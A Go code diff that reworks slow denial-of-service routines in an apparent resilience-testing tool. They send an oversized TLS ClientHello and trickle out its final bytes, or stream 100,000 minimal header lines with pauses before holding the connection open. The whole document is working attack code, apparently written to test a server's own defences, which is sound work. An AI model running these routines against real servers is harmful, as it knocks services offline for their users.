@@ -8,6 +8,7 @@ import (
 	"fmt"
 	"io"
 	"net/http"
+	"slices"
 	"strings"
 	"time"
 )
@@ -18,17 +19,26 @@ const (
 	post = "POST /validate/ssp HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
 )
 
-// slowHandshakes sends what begins a handshake, and never ends it.
+// slowHandshakes sends nearly all of the largest ClientHello that crypto/tls takes,
+// and then a byte a second.
 func slowHandshakes(a *attacker) {
-	// A record of a ClientHello of 16,000 bytes.
-	hello := []byte{22, 3, 1, 0x3e, 0x84, 1, 0, 0x3e, 0x80}
+	const size, record = 65000, 16000
+	message := append([]byte{1, 0, size >> 8, size & 0xff}, make([]byte, size)...)
+	var hello []byte
+	for part := range slices.Chunk(message, record) {
+		hello = append(append(hello, 22, 3, 1, byte(len(part)>>8), byte(len(part)&0xff)), part...)
+	}
+	most := len(hello) - 1000
 	a.callers(many, pause, func() error {
 		conn, done, err := a.dial()
 		if err != nil {
 			return err
 		}
 		defer done()
-		return a.trickle(conn, append(bytes.Clone(hello), make([]byte, 16000)...))
+		if _, err := conn.Write(hello[:most]); err != nil {
+			return err
+		}
+		return a.trickle(conn, hello[most:])
 	})
 }
 
@@ -44,10 +54,13 @@ func slowHeaders(a *attacker) {
 	})
 }
 
-// longHeaders sends nearly as much as net/http's default lets a caller, and not the
-// end of it.
+// longHeaders sends as many as it can of what costs the server most for its length,
+// and not the end of them.
 func longHeaders(a *attacker) {
-	line := []byte("X-Header: " + strings.Repeat("y", 1000) + "\r\n")
+	var lines []byte
+	for i := range 100_000 {
+		lines = fmt.Appendf(lines, "%x:\r\n", i)
+	}
 	a.callers(many, pause, func() error {
 		conn, done, err := a.dialTLS("http/1.1")
 		if err != nil {
@@ -58,10 +71,12 @@ func longHeaders(a *attacker) {
 		if _, err := io.WriteString(conn, post); err != nil {
 			return err
 		}
-		for range 900 {
-			if _, err := conn.Write(line); err != nil {
+		// A few at a time: what is over the limit would have all refused at once.
+		for part := range slices.Chunk(lines, 1000) {
+			if _, err := conn.Write(part); err != nil {
 				return err
 			}
+			a.sleep(500 * time.Millisecond)
 		}
 		return hold(conn)
 	})
